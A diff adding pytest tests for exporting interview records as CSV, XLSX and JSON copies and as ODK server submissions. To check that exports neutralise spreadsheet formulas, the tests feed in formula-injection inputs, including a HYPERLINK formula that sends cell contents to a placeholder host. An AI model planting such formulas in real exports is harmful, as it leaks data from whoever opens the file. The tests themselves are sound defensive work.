@@ -1,0 +1,152 @@
+"""Open forms of exit: the person's own copy, and records that an ODK server takes."""
+
+import csv
+import io
+import json
+import subprocess
+from pathlib import Path
+from uuid import UUID
+
+import pytest
+from lxml import etree
+from openpyxl import load_workbook
+from tests.given import PICTURE, Office
+
+from sarana import language
+from sarana.errors import NothingToCopy
+from sarana.exchange.copies import Submission, copy_of_case, submission_of_record
+from sarana.forms import Interview
+from sarana.forms.interview import Reopening
+
+PROJECT = Path(__file__).resolve().parents[2]
+ORACLES = PROJECT / ".oracles" / "node_modules"
+FORMULA = '=HYPERLINK("http://example.invalid/"&A1)'
+
+
+def copied(office: Office, case: str, kind: str, code: str = "en") -> bytes:
+    return copy_of_case(office.store, office.vault, case, kind, language.catalog(code))
+
+
+def rows_of(table: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"))))
+
+
+def submitted(office: Office, case: str) -> Submission:
+    return submission_of_record(office.store, office.vault, office.store.heads(office.record_of(case))[-1])
+
+
+# ---- the person's own copy
+
+
+def test_the_copy_says_every_signed_answer_in_words_and_as_code(border_post: Office) -> None:
+    case = border_post.takes_down(consent="yes", name_khmer="ឧទាហរណ៍ សុខា", name_chinese="范例小明")
+    table = rows_of(copied(border_post, case, "csv", "km"))
+    assert [row[4:7] for row in table if row[4] == "តើអ្នកយល់ព្រមទេ?"] == [["តើអ្នកយល់ព្រមទេ?", "បាទ/ចាស", "yes"]]
+    assert {"ឧទាហរណ៍ សុខា", "范例小明"} <= {row[5] for row in table}
+
+
+def test_what_is_only_a_draft_is_never_copied(border_post: Office) -> None:
+    with pytest.raises(NothingToCopy):
+        copied(border_post, border_post.begins_a_case(family_name="EXAMPLE"), "csv")
+
+
+def test_a_draft_begun_after_signing_stays_out(border_post: Office) -> None:
+    case = border_post.takes_down(story="first")
+    border_post.store.reopen(border_post.record_of(case))
+    border_post.writes(case, story="not yet signed")
+    assert b"not yet signed" not in copied(border_post, case, "json")
+    assert b"first" in copied(border_post, case, "json")
+
+
+@pytest.mark.parametrize("answer", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1"])
+def test_no_answer_becomes_a_formula(border_post: Office, answer: str) -> None:
+    case = border_post.takes_down(story=answer)
+    cells = [cell for row in rows_of(copied(border_post, case, "csv")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "\t"))]
+    book = load_workbook(io.BytesIO(copied(border_post, case, "xlsx")))
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert kinds <= {"s", "inlineStr", "n"}  # "n" is an empty cell; a formula would be "f"
+
+
+def test_a_workbook_gives_the_answer_back_unchanged(border_post: Office) -> None:
+    case = border_post.takes_down(story=FORMULA)
+    book = load_workbook(io.BytesIO(copied(border_post, case, "xlsx")))
+    assert FORMULA in {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
+
+
+def test_json_names_who_signed_and_with_which_form(border_post: Office) -> None:
+    case = border_post.takes_down(story="told")
+    record = json.loads(copied(border_post, case, "json"))["records"][0]
+    assert record["signed_by"]["name"] == border_post.vault.officer.name
+    assert (record["form_version"], record["revision"]) == ("1", border_post.store.heads(record["record"])[0])
+    assert {
+        each["ref"].rsplit("/")[-1]: each["value"] for each in record["answers"] if each["value"] == "told"
+    } == {"story": "told"}
+
+
+def test_who_took_a_copy_out_stands_in_the_journal(border_post: Office) -> None:
+    case = border_post.takes_down(story="told")
+    copied(border_post, case, "csv")
+    submitted(border_post, case)
+    assert [entry.action for entry in border_post.vault.journal_entries(limit=2)] == [
+        "copy.submission",
+        "copy.case",
+    ]
+
+
+# ---- for an ODK server
+
+
+def test_a_submission_has_the_form_its_version_its_answers_and_its_files(border_post: Office) -> None:
+    case = border_post.takes_down(story="told", photo="face.png", files={"face.png": PICTURE})
+    made = submitted(border_post, case)
+    top = etree.fromstring(made.document)
+    form = border_post.store.current_form()
+    assert (top.get("id"), top.get("version")) == (form.id, "1")
+    assert (top.findtext("story"), top.findtext("photo")) == ("told", "face.png")
+    assert made.files == {"face.png": PICTURE}
+    assert top.findtext("meta/instanceID") == made.instance_id
+    assert UUID(made.instance_id.removeprefix("uuid:")).version == 4
+
+
+def test_a_submission_is_the_same_to_the_byte_however_often_it_is_made(border_post: Office) -> None:
+    case = border_post.takes_down(story="told")
+    assert submitted(border_post, case) == submitted(border_post, case)
+
+
+def test_a_later_version_says_which_submission_it_takes_the_place_of(border_post: Office) -> None:
+    case = border_post.takes_down(story="first")
+    before = submitted(border_post, case)
+    border_post.continues(case, story="second")
+    top = etree.fromstring(submitted(border_post, case).document)
+    assert top.findtext("meta/deprecatedID") == before.instance_id
+    assert top.findtext("meta/instanceID") != before.instance_id
+
+
+def test_another_program_opens_the_submission_with_every_answer(border_post: Office) -> None:
+    case = border_post.takes_down(story="told", consent="yes", family_name="EXAMPLE")
+    signed = border_post.store.revision(border_post.store.heads(border_post.record_of(case))[0]).snapshot
+    assert signed is not None
+    form = border_post.store.form(signed.form_sha256)
+    again = Interview.reopen(form, submitted(border_post, case).document, Reopening.RESTORE)
+    meta = {ref for ref in signed.values if "/meta/" in ref}
+    told = {ref: value for ref, value in again.final_snapshot().values.items() if ref not in meta}
+    assert told == {ref: value for ref, value in signed.values.items() if ref not in meta}
+
+
+@pytest.mark.tools
+def test_the_web_forms_engine_edits_the_submission(border_post: Office, tmp_path: Path) -> None:
+    if not (ORACLES / "@getodk" / "xforms-engine").is_dir():
+        pytest.skip("@getodk/xforms-engine is not installed in .oracles")
+    case = border_post.takes_down(story="told", family_name="EXAMPLE")
+    signed = border_post.store.revision(border_post.store.heads(border_post.record_of(case))[0]).snapshot
+    assert signed is not None
+    form, instance = tmp_path / "form.xml", tmp_path / "submission.xml"
+    form.write_bytes(border_post.store.form(signed.form_sha256).source.xform)
+    instance.write_bytes(submitted(border_post, case).document)
+    script = Path(__file__).with_name("edit_instance.mjs")
+    command = ["node", str(script), str(ORACLES), str(form), str(instance)]
+    ran = subprocess.run(command, capture_output=True, text=True, timeout=120)
+    assert ran.returncode == 0, ran.stderr
+    values = json.loads(ran.stdout)
+    assert (values["/data/story"], values["/data/family_name"]) == ("told", "EXAMPLE")
